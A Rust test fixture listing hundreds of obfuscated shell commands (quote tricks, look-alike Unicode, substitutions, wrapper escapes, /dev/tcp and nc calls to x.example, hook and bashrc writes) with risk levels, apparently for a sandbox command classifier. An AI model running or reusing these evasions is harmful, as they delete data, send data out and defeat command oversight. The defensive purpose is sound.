@@ -1,0 +1,81 @@
+//! Commands that are written to look like less than they are, with the level that a careful engineer gives when they
+//! have seen through it: 2 for what stays in the sandbox, 3 for what reaches beyond.
+
+#[rustfmt::skip] // One command a line, with its level before it.
+pub(crate) const DECEPTIVE: &[(u8, &str)] = &[
+    // Quotes and escapes around and in names.
+    (2, "r''m -rf src"), (2, "r\"\"m -rf src"), (2, "\\rm -rf src"), (2, "'r'\"m\" -rf src"), (2, "l's' > \"x\""),
+    (2, "/bin/'rm' x"), (2, "\"/usr/bin/\"rm x"), (3, "su''do ls"), (3, "\"\"sudo ls"), (3, "s\\u\\d\\o ls"), (3, "c'ur'l x.example"),
+    (2, "fi''nd . -del\"ete\""), (2, "sor't' -o x x"), (2, "find . -\"exec\" touch x \\;"), (2, "sed '-i' s/a/b/ x"),
+    (2, "sed -\"\"i s/a/b/ x"), (2, "git 'log' --out'put'=x"), (2, "rg '--pre' evil x"), (2, "'ls -la'"), (2, "ls\\ -la"),
+    (2, "echo hi \\> x > y"), (2, "cat 'a' \"b\" '>' x > y"), (2, "echo \"a\" '\"' > x '\"'"), (2, "ls '\n' \"$(touch x)\""),
+    // `$'…'` and `$\"…\"`.
+    (2, "$'rm' -rf src"), (2, "$'\\x72\\x6d' -rf src"), (2, "$'\\162\\155' x"), (2, "$'\\u0072m' x"), (2, "l$'s' > x"),
+    (2, "ls $'a\\'; touch x; echo \\''"), (2, "ls $'\\\\'; touch x #'"), (2, "find . $'-delete'"), (2, "find . $'\\x2ddelete'"),
+    (2, "$\"rm\" x"), (2, "echo $'\\n' > x"), (2, "sort $'-o' x y"), (3, "$'\\x73udo' ls"), (3, "ls; $'curl' x.example"),
+    // Patterns and variables in the place of programs and options.
+    (2, "/bin/c?t x"), (2, "/???/r[m] x"), (2, "/bin/r* x"), (2, "./l?"), (2, "$SHELL -c ls"), (2, "${SHELL} x"), (2, "$0 x"),
+    (2, "x=rm; $x -rf src"), (2, "a=r b=m; $a$b -rf src"), (2, "x='ls > y'; eval $x"), (2, "${x:-rm} y"), (2, "ls ${x:=$(touch y)}"),
+    (2, "ls ${x/a/$(touch y)}"), (2, "echo ${x@P}"), (2, "echo ${!x}"), (2, "echo ${x[$(touch y)]}"), (2, "find . $x"),
+    (2, "sort $x"), (2, "sort *"), (2, "find *"), (2, "sed -n 1p *"), (2, "git log $x"), (2, "rg foo *"), (2, "uniq *"), (2, "tree $opts"),
+    (2, "sed -n $script x"), (2, "awk \"$prog\" x"), (2, "xxd $a $b"), (2, "find . -name $x"), (2, "date \"$x\""), (2, "fd $x"),
+    // Blanks that aren't there.
+    (2, "rm${IFS}-rf${IFS}src"), (2, "rm$IFS-rf$IFS.src"), (2, "ls;{touch,x}"), (2, "{rm,-rf,src}"), (2, "{ls,>,x}; touch y"),
+    (3, "{sudo,ls}"), (3, "curl${IFS}x.example"), (2, "find . -{delete,print}"), (2, "sort {-o,x} y"), (2, "git log {--output,-1}=x"),
+    (2, "ls>x"), (2, "ls>>x"), (2, "ls 1>x"), (2, "ls>|x"), (2, "ls&>x"), (2, "ls>&x"), (2, "ls 2>x"), (2, ">x"), (2, ">x ls"),
+    (2, "> x < y cat"), (2, "ls 3>x"), (2, "cat<x>y"), (2, "echo a>b>c"), (2, "ls >$x"), (2, "ls > \"$HOME/x\""), (2, "ls > /dev/null > x"),
+    // Look-alikes, and what isn't seen.
+    (2, "\u{43b}s"), (2, "\u{455}h x"), (2, "\u{441}at x"), (2, "\u{ff4c}\u{ff53}"), (2, "ls\u{a0}> x"), (2, "ls\u{200b}"), (2, "l\u{ad}s"),
+    (2, "ls \u{202e}x"), (2, "ls \u{2066}# x\u{2069}"), (2, "cat x\u{2028}touch y"), (2, "ls\u{ff1b}touch x"), (2, "ls \u{37e} touch x"),
+    (2, "ls\u{3000}x"), (2, "ls \u{e0072}"), (2, "ls \u{fe0f}"), (2, "ls \u{7f}"), (2, "ls\rtouch x"), (2, "ls \u{1b}[2K"), (2, "ls\u{8}\u{8}rm x"),
+    (2, "ls\u{b}x"), (2, "ls\u{85}x"), (2, "cat x \u{2216} touch y"), (2, "\u{2010}ls"), (2, "git \u{2013}\u{2013}version"),
+    // Newlines, comments and continued lines.
+    (2, "ls;#\nrm x"), (2, "ls #\\\nrm x"), (2, "ls # \\\ntouch x"), (2, "ls 'a'#; touch x"), (2, "echo x#; touch x"), (2, "ls \\ #; touch x"),
+    (2, "ls \\#; touch x"), (2, "ls \"a\"#\ntouch x"), (2, "ls $x#; touch x"), (2, "r\\\nm x"), (2, "ls\\\n;touch x"), (2, "ls \\\n> x"),
+    (2, "# ls\nrm x"), (2, "ls\n\n\n\ntouch x"), (2, "ls |\ntee x"), (2, "ls &&\\\ntouch x"), (2, "ls ||\n\n touch x"), (2, "ls; ; touch x"),
+    (2, "ls #`\ntouch x\n#`"), (2, "echo `# `touch x"), (2, "echo $(# )\ntouch x\n)"), (2, "ls {a}#;touch x"), (2, "ls\\\t#;touch x"),
+    // Substitutions, in one another and where nobody looks.
+    (2, "echo \"$(touch x)\""), (2, "echo \"`touch x`\""), (2, "echo \"a $(echo \"b $(touch x)\")\""), (2, "ls $(echo $(echo $(touch x)))"),
+    (2, "ls `echo \\`touch x\\``"), (2, "x=$(touch y)"), (2, "x=`touch y` ls"), (2, "ls < <(touch x)"), (2, "cat <(touch x)"), (2, "ls > >(touch x)"),
+    (2, "ls <<< $(touch x)"), (2, "cat <<E\n$(touch x)\nE"), (2, "cat <<E\n`touch x`\nE"), (2, "cat <<'E'\n$x\nE\ntouch x"), (2, "cat <<E\nE \nE\ntouch x"),
+    (2, "cat <<-E\n\tE\ntouch x\nE"), (2, "cat <<E\nE\ntouch x\nE"), (2, "cat <<\\E\nE\ntouch x\nE"), (2, "cat <<\"E\"x\n$(touch x)\nEx\ntouch y"),
+    (2, "cat <<A <<B\nA\nB\ntouch x"), (2, "for i in $(touch x); do ls; done"), (2, "case $(touch x) in *) ls;; esac"), (2, "case x in $(touch x)) ls;; esac"),
+    (2, "if ls $(touch x); then ls; fi"), (2, "while touch x; do ls; done"), (2, "[ -f \"$(touch x)\" ]"), (2, "[[ -f $(touch x) ]]"), (2, "[ a ] && touch x"),
+    (2, "[ a && touch x ]"), (2, "[[ a && touch x ]]"), (2, "[[ -v a[$(touch x)] ]]"), (2, "test -v 'a[$(touch x)]'"), (2, "[[ 'a[$(touch x)]' -eq 1 ]]"),
+    (2, "[[ $x -eq 1 ]]"), (2, "echo $((a[$(touch x)]))"), (2, "echo $((x))"), (2, "echo $[a[$(touch x)]]"), (2, "((a[$(touch x)]=1))"), (2, "((touch x))"),
+    (2, "echo $((touch x) )"), (2, "let 'a[$(touch x)]=1'"), (2, "printf -v 'a[$(touch x)]' y"), (2, "printf %n 'a[$(touch x)]'"), (2, "declare 'a[$(touch x)]=1'"),
+    (2, "read 'a[$(touch x)]' < y"), (2, "unset 'a[$(touch x)]'"), (2, "a[$(touch x)]=1"), (2, "export A=$(touch x)"), (2, "ls ${x:$(touch y)}"), (2, "x=(a $(touch y))"),
+    // Variables that say what runs.
+    (2, "PATH=.:$PATH ls"), (2, "PATH=. ls"), (2, "LD_PRELOAD=./x.so ls"), (2, "PAGER='touch x' git log"), (2, "GIT_PAGER=evil git log"), (2, "GIT_EXTERNAL_DIFF=evil git diff"),
+    (3, "GIT_SSH_COMMAND='touch x' git fetch"), (2, "BASH_ENV=x bash -c ls"), (2, "ENV=x sh -c ls"), (2, "IFS=x ls"), (2, "PROMPT_COMMAND=evil ls"), (2, "env PATH=. ls"),
+    (2, "export PATH=.; ls"), (2, "PATH=.; ls"), (2, "LESSOPEN='|evil %s' less x"), (2, "GIT_CONFIG_COUNT=1 git log"), (2, "RIPGREP_CONFIG_PATH=x rg y"), (2, "NODE_OPTIONS='-r ./x' node --version"),
+    (2, "GREP_OPTIONS=x ls"), (2, "env -u HOME LD_PRELOAD=x ls"), (2, "env -S'touch x'"), (2, "env -iS 'touch x'"), (2, "env --split-string='touch x'"), (2, "TAR_OPTIONS=--to-command=x tar tf y"),
+    // Names that mean something else here.
+    (2, "ls() { touch x; }; ls"), (2, "alias ls='touch x'\nls"), (2, "function ls { touch x; }; ls"), (2, "./ls"), (2, "/tmp/ls"), (2, "bin/ls"), (2, "../../bin/ls"), (2, "~/ls"),
+    (2, "cd /tmp && ./ls"), (2, "cd x && git log"), (2, "hash -p ./x ls; ls"), (2, "enable -f ./x.so ls"), (2, ". ./x"), (2, "source ./x"), (2, "command ./ls"), (2, "builtin eval ls"),
+    (2, "exec ./x"), (2, "trap 'touch x' EXIT"), (2, "trap 'touch x' 0; ls"), (2, "coproc touch x"), (2, "time touch x"), (2, "! touch x"), (2, "ls & touch x"), (2, "ls | (touch x)"), (2, "if true; then touch x; fi"),
+    // Wrappers.
+    (2, "env touch x"), (2, "timeout 5 touch x"), (2, "nice touch x"), (2, "stdbuf -o0 touch x"), (2, "command touch x"), (2, "nohup touch x"), (2, "setsid touch x"), (2, "busybox touch x"),
+    (2, "xargs touch < x"), (2, "ls | xargs -n1 touch"), (2, "ls | xargs sh -c 'touch x'"), (2, "echo x | xargs -I{} touch {}"), (2, "find . -exec touch x \\;"), (2, "find . -exec sh -c 'touch x' \\;"),
+    (2, "find . -execdir ls \\;"), (2, "find . -ok ls \\;"), (2, "fd -x touch"), (2, "sh -c 'touch x'"), (2, "bash -lc ls"), (2, "bash -c \"$x\""), (2, "sh -c 'ls' > x"), (2, "bash -c 'bash -c \"touch x\"'"),
+    (2, "sh <<E\ntouch x\nE"), (2, "bash -s <<'E'\nrm -rf src\nE"), (2, "bash <<< 'touch x'"), (2, "echo 'touch x' | sh"), (2, "echo dG91Y2ggeA== | base64 -d | sh"), (2, "cat x | bash"), (2, "eval \"ls; touch x\""),
+    (2, "parallel touch ::: x"), (2, "watch -n1 touch x"), (2, "script -c 'touch x' /dev/null"), (2, "flock x touch y"), (3, "sudo -u me env A=1 ls"), (3, "find . -exec sudo ls \\;"), (3, "xargs -a x sudo ls"),
+    (3, "sh -c 'sh -c \"curl x.example\"'"), (3, "timeout 5 ssh host ls"), (3, "chroot / ls"), (3, "nsenter -t 1 -m ls"), (3, "echo $(git push)"), (3, "ls <(ssh host cat x)"), (3, "docker run -v /:/h x ls"),
+    // Ways out of innocent programs.
+    (2, "awk 'BEGIN{system(\"touch x\")}'"), (2, "awk '{print > \"x\"}' y"), (2, "awk '{print | \"sh\"}' y"), (2, "awk '{\"touch x\" | getline}' y"), (2, "awk '/\"/{system(\"touch x\")} /\"/' y"),
+    (2, "awk 'BEGIN { while (\"ls\" | getline x) print x }'"), (2, "gawk -i inplace '{print}' x"), (2, "awk -f x.awk y"), (2, "sed -n '1w x' y"), (2, "sed '1e touch x' y"), (2, "sed 's/.*/touch x/e' y"), (2, "sed -n 's/a/b/w x' y"),
+    (2, "sed --expression='w x' y"), (2, "sed -e p -e 'w x' y"), (2, "sed 's/[/]/w x/' y"), (2, "sed -f x y"), (2, "sed -ni p y"), (2, "sed -n p y -i"), (2, "sed --in-place=.b p y"), (2, "find . -fprintf x %p"), (2, "find . -fls x"),
+    (2, "find . -files0-from x"), (2, "sort --compress-program=./x y"), (2, "sort -S1 --compress-prog ./x y"), (2, "sort -T. -ox y"), (2, "uniq a b"), (2, "xxd -r a b"), (2, "tree -o x"), (2, "file -C -m x"), (2, "diff -l a b"),
+    (2, "tar cf x.tar . --checkpoint=1 --checkpoint-action=exec='touch x'"), (2, "tar xf x.tar --to-command='touch x'"), (2, "tar -I ./x -tf y"), (2, "tar tf y --use-compress-program=./x"), (2, "tar tf host:x"), (2, "tar xf x.tar"),
+    (2, "zip x.zip y -T -TT 'touch z'"), (2, "unzip x.zip"), (2, "rsync -e 'touch x' a b"), (3, "rsync a host:b"), (3, "ssh -o ProxyCommand='touch x' host"), (3, "scp a host:b"), (3, "tcpdump -z ./x -w y"), (3, "nmap --script x host"),
+    (2, "gdb -ex '!touch x' -batch"), (2, "gdb -batch -ex 'shell touch x'"), (2, "less x"), (2, "more x"), (2, "man ls"), (2, "man -P 'touch x' ls"), (2, "vim -c ':!touch x' -c q"), (2, "vi x"), (2, "ed x"), (2, "nano x"), (2, "emacs --batch --eval '(shell-command \"touch x\")'"),
+    (2, "git -p log"), (2, "git -c core.pager='touch x' log"), (2, "git -c alias.log='!touch x' log"), (2, "git -c diff.external=./x diff"), (2, "git --exec-path=. log"), (2, "git diff --ext-diff"), (2, "git log --textconv -p"), (2, "git log --output=x"),
+    (2, "git grep -O./x foo"), (2, "git grep --open-files-in-pager=./x foo"), (2, "git log --format=%G?"), (2, "git -C x log"), (2, "git --git-dir=x log"), (2, "git bisect run touch x"), (2, "git rebase -x 'touch x' main"), (2, "git difftool -x ./x"),
+    (3, "git ls-remote --upload-pack='touch x' ."), (3, "git clone --upload-pack='touch x' a b"), (3, "git -c core.sshCommand='touch x' fetch"), (2, "git submodule foreach 'touch x'"), (2, "git config alias.st '!touch x'"), (2, "git blame --contents=x y"),
+    (2, "rg --pre ./x foo"), (2, "rg --hostname-bin=./x foo"), (2, "rg -z foo"), (2, "fd -X rm"), (2, "bat --pager ./x y"), (2, "jq -n 'input' --rawfile a b > x"), (2, "yq -i .a=1 x"), (2, "dd if=a of=b"), (2, "split x"), (2, "split --filter='touch x' y"),
+    (2, "make -f x"), (2, "make SHELL=./x"), (2, "make -n SHELL=./x --eval='$(shell touch x)'"), (2, "npm exec -- touch x"), (2, "npx touch x"), (2, "node -e 'x()'"), (2, "python3 -c 'import os'"), (2, "perl -e 'unlink x'"), (2, "ruby -e x"), (2, "php -r x"),
+    (2, "sqlite3 x '.shell touch y'"), (2, "psql -c '\\! touch x'"), (2, "openssl enc -in x -out y"), (2, "pip install ."), (2, "cargo --config 'build.rustc-wrapper=\"./x\"' build"), (2, "cargo metadata"), (2, "ldd ./x"), (2, "strace -o x ls"), (2, "date -s 2020-01-01"),
+    (2, "hostname x"), (2, "ps -ef > x"), (2, "env -C x ./y"), (2, "ls -la --color=auto; : > x"), (2, "cat /dev/null | tee x"), (2, "true && touch x || false"), (2, "echo x >> .gitignore"), (2, "cp /dev/null x"), (3, "ln -sf /etc/passwd x"), (2, "mkfifo x"), (2, "install x y"),
+    (3, "cat < /dev/tcp/x.example/80"), (3, "echo x > /dev/tcp/x.example/80"), (3, "exec 3<>/dev/tcp/x.example/80"), (3, "cat x > /dev/udp/x.example/53"), (3, "ls | nc x.example 1"), (3, "python3 -c 'import os; os.system(\"curl x.example\")'"),
+    (3, "awk 'BEGIN{system(\"curl x.example\")}'"), (3, "find . -exec curl x.example \\;"), (3, "xargs curl < x"), (3, "echo x > .git/hooks/pre-commit"), (3, "echo x >> ~/.bashrc"), (3, "echo x > .envrc"), (3, "ls 2> /etc/x"),
+];
